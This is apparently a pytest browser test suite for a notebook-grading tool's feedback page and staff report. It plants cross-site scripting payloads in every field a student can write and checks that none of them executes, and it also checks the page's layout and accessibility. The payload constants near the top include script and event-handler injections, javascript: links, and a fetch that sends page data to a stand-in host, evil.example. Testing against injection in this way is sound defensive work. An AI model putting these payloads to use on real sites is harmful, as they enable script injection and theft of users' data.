"""What students wrote cannot act in the browser of who reads the feedback page or the staff's report."""

from __future__ import annotations

import base64
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from chainrule.model import ExerciseResult, Note, Outcome, Status
from chainrule.plugins.staff import staff_report

pytestmark = pytest.mark.browser

ACT = "document.title='taken';alert(1);fetch('https://evil.example/'+document.title)"
HOSTILE = (
    f"<script>{ACT}</script>"
    f'"><img src="https://evil.example/i.png" onerror="{ACT}">'
    f'\'><svg onload="{ACT}"></svg>'
    f'</pre></textarea></title></style><iframe srcdoc="<script>parent.{ACT}</script>"></iframe>'
    f'<a href="javascript:{ACT}" autofocus onfocus="{ACT}">click</a>'
    '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "{{ 7*7 }}{% raw %}<!--"
)
OSC8 = f"\x1b]8;;javascript:{ACT}\x1b\\link\x1b]8;;\x1b\\\x1b[31mred\x1b[0m"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script></svg>'


def display(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def hostile_outputs() -> list[dict[str, Any]]:
    svg = base64.b64encode(SVG.encode()).decode()
    return [
        {"output_type": "stream", "name": "stdout", "text": HOSTILE + OSC8},
        {"output_type": "stream", "name": "stderr", "text": "x<b>" * 200_000},
        display({"text/html": HOSTILE, "text/plain": HOSTILE}),
        display({"application/javascript": ACT}),
        display({"image/svg+xml": SVG}),
        display({"image/png": svg}),
        display({"image/png": f'AAAA" onerror="{ACT}', "text/plain": OSC8}),
        display({"text/markdown": HOSTILE, "text/latex": r"$\href{javascript:1}{x}$"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": HOSTILE}, HOSTILE: "mime"}),
        {"output_type": "error", "ename": HOSTILE, "evalue": HOSTILE, "traceback": [HOSTILE, OSC8]},
    ]


def hostile_results() -> list[ExerciseResult]:
    failed = Outcome(
        HOSTILE, HOSTILE, HOSTILE, 0, 4, Status.FAILED, message=HOSTILE, detail=HOSTILE + OSC8, misconception=None
    )
    named = Outcome("f", "b", HOSTILE, 0, 4, Status.CRASHED, message=OSC8, misconception=HOSTILE + "!")
    return [
        ExerciseResult(HOSTILE, "test_f", 4, (failed,)),
        ExerciseResult("f", "test_g", 4, (named, failed)),
    ]


@pytest.fixture(scope="module")
def hostile_page(
    feedback_in: Callable[..., str], cell: Callable[..., dict[str, Any]], tmp_path_factory: pytest.TempPathFactory
) -> str:
    """A submission with all of it in every place that a student can write to."""
    cells = [
        cell("markdown", f"# {HOSTILE}\n## {HOSTILE}"),
        cell("code", HOSTILE, "f", solution=True, outputs=hostile_outputs()),
        cell("code", "check", "test_f", points=4, outputs=hostile_outputs()),
        cell("code", "check", "test_g", points=4),
        cell("code", f"assert x\n{HOSTILE}", "foreign", points=4, outputs=hostile_outputs()),
        cell("markdown", HOSTILE + OSC8, "m1", points=6, solution=True),
        cell("code", HOSTILE, "m2", points=6, solution=True, outputs=hostile_outputs()),
        cell("code", HOSTILE, outputs=hostile_outputs()),
    ]
    return feedback_in(
        tmp_path_factory.mktemp("hostile"),
        cells,
        scores={name: {"auto_score": 0} for name in ("test_f", "test_g", "foreign")},
        results=hostile_results(),
        notes=[Note("timeout", HOSTILE, HOSTILE), Note("restored", HOSTILE, "test_f")],
        comments={"m1": HOSTILE, "f": HOSTILE},
        names=(HOSTILE, OSC8),
        student='<img src=x onerror="1">&',
        notebook='"><img src=x onerror="alert(1)">',
    )


def test_the_payload_is_live_where_it_is_not_escaped(watched: Any, tmp_path: Path) -> None:
    """The control: without it, the next tests could pass because the payload is harmless."""
    watched.page.set_content(f"<title>own</title>{HOSTILE}")
    watched.page.wait_for_timeout(300)
    assert watched.dialogs
    assert "https://evil.example/taken" in watched.requests


def test_nothing_of_a_hostile_submission_runs(watched: Any, hostile_page: str, tmp_path: Path) -> None:
    watched.show(hostile_page, tmp_path)
    assert watched.page.title().startswith("Feedback: a01")
    assert watched.dialogs == []
    assert watched.console == []
    assert [url for url in watched.requests if not url.startswith("data:image/")] == []


def test_a_hostile_submission_adds_no_element(watched: Any, hostile_page: str, tmp_path: Path) -> None:
    """Not even if the policy of the page were gone: there is nothing to stop."""
    watched.show(hostile_page, tmp_path)
    count = watched.page.evaluate
    forbidden = (
        "script, iframe, object, embed, svg, form, input, button, link, base, video, audio, template, img[src^=http]"
    )
    assert count(f"document.querySelectorAll({forbidden!r}).length") == 0
    assert count("document.querySelectorAll('meta[http-equiv=refresh]').length") == 0
    assert count("document.querySelectorAll('a:not([href^=\"#\"])').length") == 0
    handlers = (
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on'))"
    )
    assert count(f"{handlers}.length") == 0
    assert "\x1b" not in hostile_page
    assert "49" not in watched.page.inner_text("h1")
    assert len(hostile_page) < 1_000_000


def test_the_policy_stops_what_would_slip_through(watched: Any, hostile_page: str, tmp_path: Path) -> None:
    """A second wall: with a payload written into the page unescaped, still nothing runs and nothing is fetched."""
    watched.show(hostile_page.replace("<main>", f"<main>{HOSTILE.split('<meta')[0]}"), tmp_path)
    assert watched.page.title().startswith("Feedback: a01")
    assert watched.dialogs == []
    assert [url for url in watched.requests if "evil.example" in url and url not in watched.blocked] == []


def test_the_staff_report_is_as_safe(watched: Any, tmp_path: Path) -> None:
    reports = "".join(staff_report(result)[1] for result in hostile_results())
    watched.show(f"<!DOCTYPE html><title>own</title>{reports}", tmp_path)
    assert watched.page.title() == "own"
    assert watched.dialogs == []
    assert watched.console == []
    assert watched.requests == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 390, 1100])
def test_the_page_fits_and_can_be_read(
    watched: Any, hostile_page: str, tmp_path: Path, width: int, scheme: str
) -> None:
    """No sideways scrolling, and text contrasts with its background at least 4.5 to 1, whatever was written."""
    watched.page.set_viewport_size({"width": width, "height": 800})
    watched.show(hostile_page, tmp_path, color_scheme=scheme)
    assert watched.page.evaluate("document.documentElement.scrollWidth") <= width
    assert watched.page.evaluate(FAINT) == []


def test_the_page_has_the_structure_that_screen_readers_use(watched: Any, hostile_page: str, tmp_path: Path) -> None:
    watched.show(hostile_page, tmp_path)
    count = watched.page.evaluate
    assert count("document.documentElement.lang") == "en"
    for landmark in ("header", "main", "nav", "footer", "h1"):
        assert count(f"document.querySelectorAll('{landmark}').length") == 1
    levels = count("[...document.querySelectorAll('h1,h2,h3,h4')].map(h => +h.tagName[1])")
    assert all(below <= above + 1 for above, below in pairwise(levels))
    assert count("[...document.querySelectorAll('section')].every(s => s.ariaLabelledByElements?.length === 1)")
    assert count("[...document.images].every(i => i.alt)")
    ids = count("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids))
    targets = count("[...document.querySelectorAll('a')].map(a => a.getAttribute('href').slice(1))")
    assert set(targets) <= set(ids)


def test_print_shows_what_is_folded(watched: Any, hostile_page: str, tmp_path: Path) -> None:
    watched.show(hostile_page, tmp_path)
    watched.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false)")
    watched.page.emulate_media(media="print")
    assert watched.page.evaluate("[...document.querySelectorAll('pre')].every(p => p.checkVisibility())")


FAINT = """
() => {
  const channels = (color) => color.match(/[\\d.]+/g).map(Number);
  const luminance = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const background = (element) => {
    for (let e = element; e; e = e.parentElement) {
      const color = channels(getComputedStyle(e).backgroundColor);
      if (color.length < 4 || color[3] > 0) return color;
    }
    return [255, 255, 255];
  };
  const faint = new Set();
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || !element.checkVisibility()) continue;
    const [a, b] = [channels(getComputedStyle(element).color), background(element)].map(luminance);
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) faint.add(`${element.tagName}.${element.className} ${ratio.toFixed(2)}`);
  }
  return [...faint];
}
"""
